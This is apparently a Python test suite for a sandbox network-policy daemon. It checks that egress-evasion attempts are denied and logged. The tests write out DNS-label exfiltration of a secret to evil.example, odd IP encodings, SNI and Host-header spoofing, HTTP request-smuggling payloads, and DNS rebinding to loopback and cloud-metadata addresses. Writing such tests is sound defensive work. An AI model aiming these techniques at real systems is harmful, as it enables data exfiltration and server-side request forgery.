#!/usr/bin/python3
"""Ways to smuggle something past names. Each ends in a denial and a record, and nothing arrives; its twin,
the same act with the name that is allowed, works.

The oracles are outside: what the DNS server was asked, what the sites and the host's own loopback saw."""

import json

from cloche_harness import check, check_equal, check_in, fixture, main, test, until
from named_internet import (BOTH, ELSEWHERE4, ELSEWHERE6, FRONT4, FRONT6, NAMES, OTHERS, NamedDaemon,
                            NamedInternet, inside, inside_json)

WIDE = {"version": 1, "name": "wide", "description": "Every address, and one name.", "network": {
    "allow": [{"cidr": "0.0.0.0/0"}, {"cidr": "::/0"}, {"name": "allowed.example", "ports": [443]}]}}

WIDE_UDP = {"version": 1, "name": "wide-udp", "description": "Datagrams to every address, and one name.",
            "network": {"allow": [{"cidr": "0.0.0.0/0", "protocol": "udp"},
                                  {"cidr": "::/0", "protocol": "udp"},
                                  {"name": "allowed.example", "ports": [443]}]}}


@fixture
def internet():
    made = NamedInternet()
    yield made
    check_equal(made.host_seen(), [], "what reached the host's own loopback")
    made.close()


@fixture
def daemon():
    made = NamedDaemon(internet(), [NAMES, OTHERS, BOTH, WIDE, WIDE_UDP])
    yield made.start()
    made.close()


@fixture
def sandbox():
    made = daemon().create(policy="names")
    yield made
    made.delete().expect(204)


def last_sequence():
    return daemon().client.last_sequence()


def records(kind, after, where=None):
    return daemon().client.events(sandbox=(where or sandbox()).id, type=kind, after=after)


def flow_since(after):
    """The next connection that was stopped; that of a twin may be told late."""
    return daemon().client.wait_event(lambda row: row["end"] not in ("closed", "reset"),
                                      sandbox=sandbox().id, type="network.flow", after=after)


def check_nothing_arrived(what):
    check_equal(internet().seen(), [], f"what reached the internet ({what})")
    check_equal(internet().host_seen(), [], f"what reached the host ({what})")


def check_denied(code, what, kind="network.connect", errno_name="EPERM", n_records=1, **expected):
    """Runs `code`, which tells an errno; checks it, the record, and that nothing arrived."""
    internet().seen()
    after = last_sequence()
    check_equal(inside_json(sandbox(), code), errno_name, what)
    found = [row for row in records(kind, after) if row["verdict"] == "deny"]
    check_equal(len(found), n_records, f"records of {what}: {json.dumps(found)}")
    for key, value in {"tenant": "admin", **expected}.items():
        check_equal(found[0].get(key), value, f"{key} of the record of {what}")
    check_equal(found[0]["policy"]["name"], "names", "policy of the record")
    check_nothing_arrived(what)


def check_stopped(code, what, answer, end, said=None):
    """Runs `code`, which prints what came of a connection to an allowed name; checks that its end is in
    the log and that nothing was dialled."""
    internet().seen()
    after = last_sequence()
    check_in(answer, inside(sandbox(), code), what)
    flow = flow_since(after)
    check_equal((flow["end"], flow.get("said"), flow.get("dialled")), (end, said, None),
                f"flow of {what}: {flow}")
    check_nothing_arrived(what)


# ---- addresses

@test
def literal_addresses_are_denied_in_every_form():
    forms = [FRONT4, "3325256714", "0306.063.0144.012", "0xc633640a", "198.51.25610", "::ffff:198.51.100.10",
             "::ffff:c633:640a"]
    for form in forms:
        check_denied(f"tell(lambda: dial({form!r}, 80))", form, address=FRONT4, port=80)
    check_denied(f"tell(lambda: dial({FRONT6!r}, 443))", FRONT6, address=FRONT6, port=443)
    for form in forms[:5] + [f"[{FRONT6}]", "[::ffff:198.51.100.10]"]:
        done = sandbox().exec(["curl", "-sS", "-m", "20", f"http://{form}/"], timeout_seconds=30)
        check_equal(done["exit_code"], 7, f"curl to {form}: {done}")
    check_nothing_arrived("curl")
    check_in('"host": "plain.example"', sandbox().sh("curl -sS -m 20 http://plain.example/"), "the twin")


@test
def synthetic_addresses_that_stand_for_nothing_are_denied():
    for address in ["198.18.0.1", "198.18.77.1", "198.19.255.254", "fd43:6c6f:6368:6500::1:3ff",
                    "fd43:6c6f:6368:6500::2:0", "fd43:6c6f:6368:6500::"]:
        check_denied(f"tell(lambda: dial({address!r}, 443))", address, address=address, port=443)


@test
def no_address_rule_opens_synthetic_addresses():
    with daemon().client.sandbox(policy="wide") as wide:
        code = "say([attempt(lambda: dial(a, 80) and 'open') for a in ('198.18.1.9', 'fd43:6c6f:6368:6500::1:9')])"
        check_equal(inside_json(wide, code), ["EPERM", "EPERM"], "errnos")
        code = "a = address_of('allowed.example')\nsay([attempt(lambda: dial(a, p) and 'open') for p in (80, 443)])"
        check_equal(inside_json(wide, code), ["EPERM", "open"], "the name's own port only")


@test
def a_ticket_is_of_use_in_its_own_sandbox_only():
    address = inside_json(sandbox(), "say([address_of('allowed.example', k) for k in ('A', 'AAAA')])")
    for name in ["names", "others", "wide", "deny-all"]:
        with daemon().client.sandbox(policy=name) as other:
            internet().seen()
            after = last_sequence()
            answers = inside_json(other, f"say([attempt(lambda: dial(a, 443) and 'open') for a in {address}])")
            check_equal(answers, ["EPERM", "EPERM"], f"under {name}")
            found = [row["address"] for row in records("network.connect", after, other)]
            check_equal(found, address, "records")
            check_nothing_arrived(f"another's ticket under {name}")
    answers = inside_json(sandbox(), f"say([attempt(lambda: dial(a, 443) and 'open') for a in {address}])")
    check_equal(answers, ["open", "open"], "the twin")


# ---- DNS

@test
def labels_of_a_name_that_is_not_allowed_never_leave():
    secret = "4111-1111-1111-1111"
    names = [f"{secret}.evil.example", f"{secret}.allowed.example", f"{secret}.allowed.example.evil.example",
             f"{'x' * 63}.{'y' * 63}.{'z' * 60}.evil.example", "allowed.example.", f"{secret}."]
    refused = [name for name in names if name != "allowed.example."]
    internet().seen()
    after = last_sequence()
    answers = inside_json(sandbox(), f"say([ask(n, k, tcp=t)['rcode'] for n in {refused}"
                          " for k in ('A', 'AAAA') for t in (False, True)])")
    check_equal(set(answers), {"REFUSED"}, "rcodes")
    for name in refused[:3]:
        done = sandbox().exec(["curl", "-sS", "-m", "20", f"http://{name}/"], timeout_seconds=30)
        check_equal(done["exit_code"], 6, f"curl to {name}: {done}")
    found = {row["name"] for row in records("network.dns", after) if row["verdict"] == "deny"}
    check(set(name.rstrip(".") for name in refused) <= found, f"records: {found}")
    check_nothing_arrived("refused names")
    internet().answer("labels.cdn.example", {"A": [FRONT4]})
    sandbox().sh("curl -sS -m 20 http://labels.cdn.example/", timeout_seconds=30)
    check_equal({row["name"] for row in internet().seen("dns")}, {"labels.cdn.example"}, "the twin")


@test
def types_that_carry_data_are_refused():
    internet().seen()
    after = last_sequence()
    kinds = ["TXT", "NULL", "ANY", "AXFR"]
    for name in ["allowed.example", "a.cdn.example", "evil.example"]:
        answers = inside_json(sandbox(), f"say([ask({name!r}, k) for k in {kinds}])")
        check_equal({row["rcode"] for row in answers}, {"REFUSED"}, f"rcodes for {name}")
        check_equal([row["answers"] for row in answers], [[]] * len(kinds), f"answers for {name}")
    found = [row for row in records("network.dns", after) if row["verdict"] == "deny"]
    check_equal(len(found), 3 * len(kinds), f"records {found}")
    check_equal({row["qtype"] for row in found}, {16, 10, 255, 252}, "types of the records")
    answers = inside_json(sandbox(), "say([ask_bytes(query_bytes('allowed.example', 'A', klass=c))['rcode']"
                          " for c in (3, 4, 255, 1)])")
    check_equal(answers[-1], "NOERROR", "the Internet's class")
    check(all(rcode in ("REFUSED", "NOTIMP", "FORMERR") for rcode in answers[:3]), f"classes: {answers}")
    check_nothing_arrived("types")


@test
def questions_that_are_more_than_one_are_not_answered():
    code = ("q = query_bytes('allowed.example', 'A')\n"
            "two = q[:4] + b'\\0\\2' + q[6:12] + q[12:33] + b'\\4evil\\7example\\0\\0\\1\\0\\1' + q[33:]\n"
            "say(ask_bytes(two, tcp=True))")
    internet().seen()
    answer = inside_json(sandbox(), code)
    check(answer == "closed" or answer["rcode"] in ("FORMERR", "REFUSED"), f"answer {answer}")
    check_nothing_arrived("two questions")


@test
def port_53_anywhere_is_answered_by_our_resolver_only():
    internet().seen()
    for server in [ELSEWHERE4, ELSEWHERE6, "192.0.2.53", "169.254.169.254"]:
        for tcp in (False, True):
            answers = inside_json(sandbox(), f"say([ask(n, server={server!r}, tcp={tcp}) for n in"
                                  " ('allowed.example', 'evil.example')])")
            check_equal([row["rcode"] for row in answers], ["NOERROR", "REFUSED"], f"rcodes at {server}")
            check(answers[0]["answers"][0].startswith("198.18.1."), f"{answers}")
    check_equal(inside_json(sandbox(), "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                            f"say(s.sendto(b'not a query: a secret', ({ELSEWHERE4!r}, 53)))"), 21, "sent")
    check_nothing_arrived("port 53")


@test
def the_widest_rule_for_datagrams_opens_no_name_and_no_other_resolver():
    with daemon().client.sandbox(policy="wide-udp") as wide:
        internet().seen()
        code = ("def send(a, port):\n"
                "  s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET, socket.SOCK_DGRAM)\n"
                "  return attempt(lambda: s.sendto(b'a secret', (a, port)))\n")
        answers = inside_json(wide, code + "tickets = [address_of('allowed.example', k) for k in ('A', 'AAAA')]\n"
                              "say([send(a, 443) for a in [*tickets, '198.18.1.9', '169.254.169.254', "
                              "'::ffff:169.254.169.254', '64:ff9b::a9fe:a9fe', '10.0.0.1', 'ff02::fb', "
                              "'fd43:6c6f:6368:6500:7564:7000::']])")
        check_equal(answers, ["EPERM"] * 9, "tickets, metadata, private, multicast")
        check_nothing_arrived("datagrams to special ranges")
        answers = inside_json(wide, code + f"say([send({ELSEWHERE4!r}, 53), send({ELSEWHERE6!r}, 53)])")
        check_equal(answers, [8, 8], "port 53: taken by the sandbox's own resolver")
        check_nothing_arrived("port 53")
        for address in ("127.0.0.1", "::ffff:127.0.0.1", "0.0.0.0", "::1"):
            check_equal(inside_json(wide, code + f"say(send({address!r}, 8200))"), 8, "its own loopback")
        check_nothing_arrived("loopback")
        check_equal(inside_json(wide, code + f"say(send({ELSEWHERE4!r}, 443))"), 8, "the twin")
        until(lambda: internet().seen("udp"), "the twin's datagram")


@test
def dns_over_tls_and_quic_are_denied():
    for address in [ELSEWHERE4, ELSEWHERE6]:
        check_denied(f"tell(lambda: dial({address!r}, 853))", f"DoT to {address}", address=address, port=853)
        for port in (443, 853, 80):
            code = (f"f = socket.AF_INET6 if ':' in {address!r} else socket.AF_INET\n"
                    f"s = socket.socket(f, socket.SOCK_DGRAM)\n"
                    f"tell(lambda: s.sendto(b'x' * 1200, ({address!r}, {port})))")
            check_denied(code, f"datagram to {address} {port}", kind="network.send", address=address,
                         port=port, protocol="udp")
    for kind in ("A", "AAAA"):
        check_denied(f"a = address_of('allowed.example', {kind!r})\ntell(lambda: dial(a, 853))", "DoT by name",
                     port=853)
        code = (f"a = address_of('allowed.example', {kind!r})\n"
                "f = socket.AF_INET6 if ':' in a else socket.AF_INET\n"
                "s = socket.socket(f, socket.SOCK_DGRAM)\n")
        check_denied(code + "tell(lambda: s.sendto(b'x' * 1200, (a, 443)))", "QUIC by name",
                     kind="network.send", port=443)
        check_denied(code + "s.connect((a, 443))\ntell(lambda: s.send(b'x' * 1200))", "QUIC by name, connected",
                     kind="network.send", port=443)


@test
def other_ways_to_connect_are_judged_alike():
    check_denied("s = socket.socket()\na = address_of('allowed.example')\n"
                 "tell(lambda: s.sendto(b'x', 0x20000000, (a, 8080)))", "fast open", port=8080)
    check_denied("s = socket.socket()\ns.setblocking(False)\na = address_of('allowed.example')\n"
                 "tell(lambda: s.connect((a, 8080)))", "nonblocking", port=8080)
    check_in(inside_json(sandbox(), "a = address_of('allowed.example')\ntell(lambda: socket.socket("
                         "socket.AF_INET, socket.SOCK_STREAM, 262).connect((a, 443)))"),
             ("EPERM", "EPROTONOSUPPORT"), "MPTCP")
    text = inside(sandbox(), "a = address_of('plain.example')\ns = socket.socket()\n"
                  "s.sendto(get_text('plain.example').encode(), 0x20000000, (a, 80))\n"
                  "s.shutdown(1)\nprint(read_all(s).decode())")
    check_in('"host": "plain.example"', text, "fast open to what is allowed")
    text = inside(sandbox(), "a = '::ffff:' + address_of('plain.example')\n"
                  "print(exchange(a, 80, get_text('plain.example')))")
    check_in('"host": "plain.example"', text, "the mapped form of a ticket")


# ---- TLS: another site behind the same address

CHANGES = {"whole": "", "byte by byte": ", step=1", "in records of 3": ", change=lambda d: in_records(d, 3)",
           "in records of 1": ", change=lambda d: in_records(d, 1)",
           "in records, byte by byte": ", change=lambda d: in_records(d, 7), step=1"}


@test
def the_server_name_of_another_site_is_stopped():
    for what, more in CHANGES.items():
        check_stopped(f"print(tls_get('allowed.example', 'other.example'{more}))", what,
                      "TLSV1_UNRECOGNIZED_NAME", "other_name", "other.example")
        text = inside(sandbox(), f"print(tls_get('allowed.example', 'allowed.example'{more}))")
        check_in('"tls": "allowed.example"', text, f"the twin, {what}")


@test
def a_hello_without_a_name_is_stopped():
    for what, more in CHANGES.items():
        check_stopped(f"print(tls_get('allowed.example', None{more}))", what, "tls ", "other_name")


@test
def names_that_only_resemble_are_stopped():
    for name in ["www.allowed.example", "allowed.example.other.example", "xallowed.example", "example",
                 "allowed-example", "allowed.exampl"]:
        check_stopped(f"print(tls_get('allowed.example', {name!r}))", name, "TLSV1_UNRECOGNIZED_NAME",
                      "other_name", name)
    check_in('"tls": "allowed.example"', inside(sandbox(), "print(tls_get('allowed.example', 'ALLOWED.Example',"
                                                " http_host='allowed.example'))").replace(
        "ALLOWED.Example", "allowed.example"), "the twin in capitals")


@test
def of_an_encrypted_hello_the_outer_name_counts():
    change = ", change=lambda d: with_extension(d, 0xfe0d, b'x' * 200)"
    check_stopped(f"print(tls_get('allowed.example', 'other.example'{change}))", "encrypted hello",
                  "TLSV1_UNRECOGNIZED_NAME", "other_name", "other.example")
    inside(sandbox(), f"print(tls_get('allowed.example', 'allowed.example'{change}))")
    check_in("allowed.example", [row["name"] for row in internet().seen("hello")], "the twin's hello arrives")


@test
def greased_hellos_pass():
    change = ", change=lambda d: with_extension(d, 0x1a1a, b'')"
    internet().seen()
    inside(sandbox(), f"print(tls_get('allowed.example', 'allowed.example'{change}))")
    check_equal([row["name"] for row in internet().seen("hello")], ["allowed.example"], "hellos")


@test
def the_hosts_of_two_tickets_are_not_exchanged():
    check_stopped("a = address_of('strict.example')\nprint(tls_get(a, 'allowed.example'))", "two tickets",
                  "TLSV1_UNRECOGNIZED_NAME", "other_name", "allowed.example")


# ---- HTTP

GOOD = "get_text('plain.example')"
OTHER_HOST = {
    "another Host": "get_text('other.example')",
    "a Host with the name inside": "get_text('plain.example.other.example')",
    "absolute form": "'GET http://other.example/ HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n'",
    "absolute form and another Host": "'GET http://plain.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'",
}
MALFORMED = {
    "a Host with a user": "get_text('plain.example@other.example')",
    "CONNECT": "'CONNECT other.example:443 HTTP/1.1\\r\\nHost: other.example:443\\r\\n\\r\\n'",
    "CONNECT to the name": "'CONNECT plain.example:80 HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n'",
    "no Host": "'GET / HTTP/1.1\\r\\n\\r\\n'",
    "no Host in HTTP/1.0": "'GET / HTTP/1.0\\r\\n\\r\\n'",
    "two Hosts": "get_text('plain.example', more='Host: other.example\\r\\n')",
    "two Hosts, the same": "get_text('plain.example', more='Host: plain.example\\r\\n')",
    "another port": "get_text('plain.example:8080')",
    "a folded line": "get_text('plain.example', more='A: b\\r\\n Host: other.example\\r\\n')",
    "space before the colon": "get_text('plain.example', more='Host : other.example\\r\\n')",
    "length and chunks": "get_text('plain.example', more='Content-Length: 4\\r\\n"
                         "Transfer-Encoding: chunked\\r\\n')",
    "two lengths": "get_text('plain.example', more='Content-Length: 4\\r\\nContent-Length: 5\\r\\n')",
    "bare line feeds": "'GET / HTTP/1.1\\nHost: plain.example\\n\\n'",
    "a NUL": "get_text('plain.example', more='A: \\0\\r\\n')",
    "HTTP/2 with prior knowledge": "'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'",
    "an upgrade to HTTP/2": "get_text('plain.example', more='Connection: Upgrade, HTTP2-Settings\\r\\n"
                            "Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\\r\\n')",
}


def stopped(data, what, ends, expect_status):
    internet().seen()
    after = last_sequence()
    text = inside(sandbox(), f"print(exchange('plain.example', 80, {data}))")
    check(text.startswith(tuple(f"HTTP/1.1 {status} " for status in expect_status)),
          f"answer to {what}: {text[:200]!r}")
    flow = flow_since(after)
    check_in(flow["end"], ends, f"end of {what}: {flow}")
    check_equal(flow.get("dialled"), None, f"dialled for {what}")
    check_nothing_arrived(what)
    return text, flow


@test
def requests_for_another_host_are_stopped():
    for what, data in OTHER_HOST.items():
        text, flow = stopped(data, what, ("other_name",), (403,))
        check_in("names", text, f"the policy in the page for {what}")
        check_in("other.example", flow["said"], f"said of {what}")
    for data in [GOOD, "get_text('PLAIN.example')", "get_text('plain.example:80')",
                 "'GET http://plain.example/ HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n'"]:
        check_in("HTTP/1.1 200 ", inside(sandbox(), f"print(exchange('plain.example', 80, {data}))"),
                 f"the twin {data}")


@test
def requests_that_two_readers_could_read_differently_are_stopped():
    for what, data in MALFORMED.items():
        stopped(data, what, ("other_name", "other_protocol"), (400, 403, 505))


@test
def each_request_of_a_connection_is_judged():
    second = {"another Host": "get_text('other.example')", "CONNECT": MALFORMED["CONNECT"],
              "absolute form": OTHER_HOST["absolute form"]}
    for what, data in second.items():
        internet().seen()
        after = last_sequence()
        text = inside(sandbox(), "s = dial('plain.example', 80)\n"
                      f"s.sendall({GOOD}.encode())\nfirst = b''\n"
                      "while b'}' not in first: first += s.recv(65536)\n"
                      f"print(exchange(s, 80, {data}))")
        check_equal([row["host"] for row in internet().seen("http")], ["plain.example"],
                    f"requests that arrived, {what}")
        check('"host"' not in text, f"answer: {text!r}")
        flow = flow_since(after)
        check_in(flow["end"], ("other_name", "other_protocol"), f"end, {what}: {flow}")
        check(flow.get("dialled"), "the first request was let through")
    inside(sandbox(), f"print(exchange('plain.example', 80, {GOOD} * 3))")
    check_equal(len(internet().seen("http")), 3, "the twin: three good requests")


@test
def a_request_hidden_in_a_body_is_a_body():
    hidden = "get_text('other.example')"
    data = (f"'POST / HTTP/1.1\\r\\nHost: plain.example\\r\\nContent-Length: %d\\r\\n\\r\\n' % len({hidden})"
            f" + {hidden}")
    internet().seen()
    check_in("HTTP/1.1 200 ", inside(sandbox(), f"print(exchange('plain.example', 80, {data}))"), "answer")
    rows = internet().seen("http")
    check_equal([row["host"] for row in rows], ["plain.example"], "requests")
    check(rows[0]["body_size"] > 20, f"{rows}")


@test
def protocols_that_no_rule_names_are_stopped():
    for what, data in {"SSH": "b'SSH-2.0-x\\r\\n'", "bytes": "b'\\x00\\x01\\x02\\x03'",
                       "SMTP": "b'EHLO plain.example\\r\\n'", "SSLv2": "b'\\x80\\x2e\\x01\\x00\\x02'"}.items():
        internet().seen()
        after = last_sequence()
        inside(sandbox(), f"print(exchange('plain.example', 443, {data}))")
        flow = flow_since(after)
        check_in(flow["end"], ("other_protocol", "other_name"), f"{what}: {flow}")
        check_nothing_arrived(what)
    check_equal(inside(sandbox(), "print(exchange('raw.example', 7, b'SSH-2.0-x'))"), "SSH-2.0-x",
                "the twin, passed through by rule")


# ---- names that point elsewhere

SPECIAL4 = ["127.0.0.1", "127.8.8.8", "0.0.0.0", "0.1.2.3", "169.254.169.254", "169.254.0.1", "10.9.9.9",
            "172.16.0.1", "192.168.1.1", "100.64.0.1", "100.100.100.200", "192.0.0.1", "224.0.0.1",
            "240.0.0.1", "255.255.255.255", "198.18.1.0"]
SPECIAL6 = ["::1", "::", "fe80::1", "fec0::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
            "::ffff:10.9.9.9", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b::a09:909",
            "64:ff9b:1::7f00:1", "2002:7f00:1::1", "fd00:9::9", "fd00:ec2::254", "fd43:6c6f:6368:6500::1:0"]


def check_rebound(name, records_of_dns, what):
    internet().answer(name, records_of_dns)
    internet().seen()
    after = last_sequence()
    text = inside(sandbox(), f"print(exchange({name!r}, 80, get_text({name!r})))")
    check(text.startswith("HTTP/1.1 403 "), f"answer for {what}: {text[:200]!r}")
    flow = flow_since(after)
    check_equal((flow["end"], flow["name"]), ("special_address", name), f"flow for {what}: {flow}")
    check(flow.get("dialled") or "::" in what.split(), f"where it points is told for {what}: {flow}")
    check_equal(internet().seen("tcp", "http", "udp"), [], f"what was dialled for {what}")
    check_equal(internet().host_seen(), [], f"what reached the host for {what}")


@test
def names_that_point_to_special_addresses_are_stopped():
    for number, address in enumerate(SPECIAL4):
        check_rebound(f"s{number}.cdn.example", {"A": [address]}, address)
    for number, address in enumerate(SPECIAL6):
        check_rebound(f"t{number}.cdn.example", {"AAAA": [address]}, address)
    internet().answer("behind.example", {"A": ["127.0.0.1"]})
    check_rebound("hidden.cdn.example", {"CNAME": "behind.example"}, "an alias")
    internet().answer("u.cdn.example", {"A": [FRONT4], "AAAA": [FRONT6]})
    check_in("HTTP/1.1 200 ", inside(sandbox(), "print(exchange('u.cdn.example', 80, get_text('u.cdn.example')))"),
             "the twin")


@test
def a_private_name_still_reaches_no_loopback_and_no_metadata():
    for number, address in enumerate(["127.0.0.1", "0.0.0.0", "169.254.169.254", "100.100.100.200"]):
        if address != "100.100.100.200":  # carrier-grade space counts as private
            check_rebound(f"p{number}.inner.example", {"A": [address]}, f"private {address}")
    for number, address in enumerate(["::1", "fe80::1", "::ffff:127.0.0.1", "fd00:ec2::254",
                                      "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::1"]):
        check_rebound(f"q{number}.inner.example", {"AAAA": [address]}, f"private {address}")
    internet().answer("r.inner.example", {"A": ["10.9.9.9"]})
    check_in("HTTP/1.1 200 ", inside(sandbox(), "print(exchange('r.inner.example', 80,"
                                     " get_text('r.inner.example')))"), "the twin")


@test
def of_several_addresses_only_good_ones_are_dialled():
    internet().answer("mixed.cdn.example", {"A": ["127.0.0.1", FRONT4, "169.254.169.254"]})
    internet().seen()
    text = inside(sandbox(), "print(exchange('mixed.cdn.example', 80, get_text('mixed.cdn.example')))")
    check(text.startswith(("HTTP/1.1 200 ", "HTTP/1.1 403 ")), f"answer {text[:200]!r}")
    check({row["address"] for row in internet().seen("tcp")} <= {FRONT4}, "addresses")
    check_equal(internet().host_seen(), [], "what reached the host")


@test
def a_name_that_turns_is_judged_each_time():
    good, bad = {"A": [FRONT4], "ttl": 0}, {"A": ["127.0.0.1"], "ttl": 0}
    internet().answer("turning.cdn.example", types={"A": [good, bad], "AAAA": [{"ttl": 0}]})
    get = "print(exchange('turning.cdn.example', 80, get_text('turning.cdn.example'))[:12])"
    check_equal(inside(sandbox(), get), "HTTP/1.1 200", "first")
    until(lambda: inside(sandbox(), get) == "HTTP/1.1 403", "it turns to the loopback and is stopped")
    check_equal(internet().host_seen(), [], "what reached the host")
    check_equal(inside(sandbox(), get), "HTTP/1.1 403", "and stays stopped")


@test
def the_address_inside_never_changes_with_the_address_outside():
    internet().answer("moving.cdn.example", {"A": [FRONT4], "ttl": 0}, {"A": [ELSEWHERE4], "ttl": 0})
    code = "say([address_of('moving.cdn.example') for _ in range(3)])"
    before = inside_json(sandbox(), code)
    sandbox().sh("curl -sS -m 20 http://moving.cdn.example/", timeout_seconds=30)
    check_equal(set(inside_json(sandbox(), code)), set(before), "addresses")
    check_equal(len(set(before)), 1, "addresses")


if __name__ == "__main__":
    main()
